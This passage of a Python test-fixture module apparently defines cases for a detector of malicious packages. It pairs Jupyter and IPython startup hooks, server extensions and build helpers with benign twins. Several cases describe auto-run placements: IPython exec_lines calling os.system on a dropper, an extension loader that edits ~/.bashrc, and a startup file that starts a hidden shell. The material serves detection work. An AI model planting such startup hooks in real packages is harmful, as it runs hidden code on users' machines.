         "demo/__init__.py": _body(_BASHRC, "_load_jupyter_server_extension", "serverapp")})
_twin("server-extension-checks-for-updates", W, "a server extension registers its handlers and asks its project's "
      "address for the latest version when the server loads it", Placement.SERVER_EXTENSION, {
          SERVER_CONFIG: '{"ServerApp": {"jpserver_extensions": {"demo": true}}}\n',
          "demo/__init__.py": """
              import requests


              def _load_jupyter_server_extension(serverapp):
                  latest = requests.get('https://example.invalid/demo/latest', timeout=2).json()
                  serverapp.log.info('demo %s is available', latest.get('version'))
              """})
_one("notebook-extension-loader", W, "a classic notebook server extension installs a package by URL when loaded",
     Placement.SERVER_EXTENSION, {
         f"{DATA}/etc/jupyter/jupyter_notebook_config.d/demo.json":
             '{"NotebookApp": {"nbserver_extensions": {"demo": true}}}\n',
         "demo/__init__.py": _body(_PIP_EXTRA, "load_jupyter_server_extension", "nbapp")})
_one("ipython-config-exec-lines", W, "an IPython config in etc/ipython sets exec_lines to a shell call",
     Placement.IPYTHON_STARTUP, {
         "demo/__init__.py": PACKAGE_DOC,
         f"{DATA}/etc/ipython/ipython_config.py": f"c = get_config()  # noqa: F821\n"
                                                  f"c.InteractiveShellApp.exec_lines = "
                                                  f"[\"import os; os.system({DROPPER!r})\"]\n"})
_one("ipython-kernel-config-json", W, "a JSON kernel config in etc/ipython sets exec_lines to a shell call",
     Placement.IPYTHON_STARTUP, {
         "demo/__init__.py": PACKAGE_DOC,
         f"{DATA}/etc/ipython/ipython_kernel_config.json":
             '{"InteractiveShellApp": {"exec_lines": ["import os; os.system(\'%s\')"]}}\n' % DROPPER})
_one("ipython-extension", W, "an IPython config loads the package's extension, whose loader edits ~/.bashrc",
     Placement.IPYTHON_STARTUP, {
         f"{DATA}/etc/ipython/ipython_config.py": "c = get_config()  # noqa: F821\n"
                                                  "c.InteractiveShellApp.extensions = ['demo.ext']\n",
         "demo/__init__.py": PACKAGE_DOC,
         "demo/ext.py": _body(_BASHRC, "load_ipython_extension", "ipython")})
_one("ipython-exec-files", W, "an IPython config runs a file the wheel installs under share/, which starts a hidden shell",
     Placement.IPYTHON_STARTUP, {
         f"{DATA}/etc/ipython/ipython_config.py": "import os\nimport sys\n\nc = get_config()  # noqa: F821\n"
                                                  "c.InteractiveShellApp.exec_files = "
                                                  "[os.path.join(sys.prefix, 'share', 'demo', 'boot.py')]\n",
         "demo/__init__.py": PACKAGE_DOC,
         f"{DATA}/share/demo/boot.py": _code(_HIDDEN)})
_twin("setup-execs-version-file", W, "setup.py executes demo/_version.py to read __version__", Placement.SETUP_HELPER, {
    "setup.py": """
        from setuptools import setup

        about = {}
        with open('demo/_version.py') as handle:
            exec(handle.read(), about)
        setup(name='demo', version=about['__version__'], packages=['demo'])
        """,
    "demo/__init__.py": "from ._version import __version__  # noqa: F401\n",
    "demo/_version.py": "__version__ = '1.0'\n"})
_twin("setup-cfg-attr-plain", W, "setup.cfg reads a plain __version__ with attr:", Placement.ATTR_VERSION, {
    "setup.cfg": "[metadata]\nname = demo\nversion = attr: demo.__version__\n\n[options]\npackages = demo\n",
    "demo/__init__.py": "__version__ = '1.0'\n"})
_twin("backend-subpackage-delegating", W, "an in-tree backend in a subpackage that adds a generated file and delegates",
      Placement.BACKEND, {
          "pyproject.toml": BACKEND_PYPROJECT, "demo/__init__.py": PACKAGE_DOC, "buildsupport/__init__.py": "",
          "buildsupport/backend.py": """
              import pathlib

              from setuptools import build_meta as _orig
              from setuptools.build_meta import *  # noqa: F401,F403


              def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                  pathlib.Path('demo', '_built.py').write_text('BUILT = True\\n')
                  return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
              """})
_twin("sys-path-helper-reads-version", W, "the build_tools helper reads the version from a file", Placement.SETUP_HELPER, {
    "setup.py": SYS_PATH_SETUP, "demo/__init__.py": PACKAGE_DOC, "VERSION": "1.0\n",
    "build_tools/versioning.py": """
        import pathlib


        def get_version():
            return (pathlib.Path(__file__).parent.parent / 'VERSION').read_text().strip()
        """})
_twin("setup-cfg-cmdclass-generates", W, "a cmdclass from setup.cfg writes a generated _version.py", Placement.CMDCLASS_CONFIG, {
    "setup.cfg": "[metadata]\nname = demo\nversion = 1.0\n\n[options]\npackages = demo\n"
                 "cmdclass =\n    build_py = demo_build.BuildPy\n",
    "demo/__init__.py": PACKAGE_DOC,
    "demo_build.py": """
        import os

        from setuptools.command.build_py import build_py


        class BuildPy(build_py):
            def run(self):
                super().run()
                target = os.path.join(self.build_lib, 'demo', '_version.py')
                with open(target, 'w') as handle:
                    handle.write("VERSION = '1.0'\\n")
        """})
_twin("hatch-hook-git-commit", W, "a hatch build hook records the git commit", Placement.BUILD_HOOK, {
    "pyproject.toml": """
        [build-system]
        requires = ["hatchling"]
        build-backend = "hatchling.build"

        [project]
        name = "demo"
        version = "1.0"

        [tool.hatch.build.hooks.custom]
        path = "scripts/build_hooks.py"
        """,
    "demo/__init__.py": PACKAGE_DOC,
    "scripts/build_hooks.py": """
        import subprocess

        from hatchling.builders.hooks.plugin.interface import BuildHookInterface


        class CustomHook(BuildHookInterface):
            def initialize(self, version, build_data):
                commit = subprocess.check_output(['git', 'rev-parse', 'HEAD'], text=True).strip()
                build_data['force_include'] = {}
                self.metadata.core.description = f'built from {commit}'
        """})
_twin("decorator-registry", W, "a decorator registers plugins in a dict", Placement.DECORATOR, """
    PLUGINS = {}


    def register(name):
        def wrap(f):
            PLUGINS[name] = f
            return f
        return wrap


    @register('csv')
    def read_csv(path):
        return open(path).read()
    """)
_twin("class-body-constants", W, "a class body computes paths under the user's home", Placement.CLASS_BODY, """
    import os


    class Paths:
        HOME = os.path.expanduser('~/.demo')
        CONFIG = os.path.join(HOME, 'config.toml')
    """)
_twin("called-at-import-reads-config", W, "a function called on import reads the package's config file",
      Placement.CALLED_AT_IMPORT, """
    import json
    import os


    def _load():
        path = os.path.expanduser('~/.demo/settings.json')
        if os.path.exists(path):
            with open(path) as handle:
                return json.load(handle)
        return {}


    SETTINGS = _load()
    """)
_twin("kernelspec-standard", W, "a standard ipykernel kernelspec", Placement.KERNELSPEC, {
    "demo/__init__.py": PACKAGE_DOC,
    KERNEL: '{"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"], "display_name": "Demo", '
            '"language": "python"}\n'})
_twin("server-extension-standard", W, "a server extension switched on by config adds its handlers",
      Placement.SERVER_EXTENSION, {
          SERVER_CONFIG: '{"ServerApp": {"jpserver_extensions": {"demo": true}}}\n',
          "demo/__init__.py": """
              from jupyter_server.base.handlers import JupyterHandler
              from jupyter_server.utils import url_path_join


              class HelloHandler(JupyterHandler):
                  def get(self):
                      self.finish({'hello': 'demo'})


              def _load_jupyter_server_extension(serverapp):
                  base = serverapp.web_app.settings['base_url']
                  serverapp.web_app.add_handlers('.*$', [(url_path_join(base, 'demo', 'hello'), HelloHandler)])
              """})
_twin("ipython-config-autoreload", W, "an IPython config turns on autoreload with exec_lines", Placement.IPYTHON_STARTUP, {
    "demo/__init__.py": PACKAGE_DOC,
    f"{DATA}/etc/ipython/ipython_config.py": "c = get_config()  # noqa: F821\nc.InteractiveShell.colors = 'Linux'\n"
                                             "c.InteractiveShellApp.exec_lines = ['%load_ext autoreload', "
                                             "'%autoreload 2']\n"})

CASES: tuple[Case, ...] = tuple(_CASES)
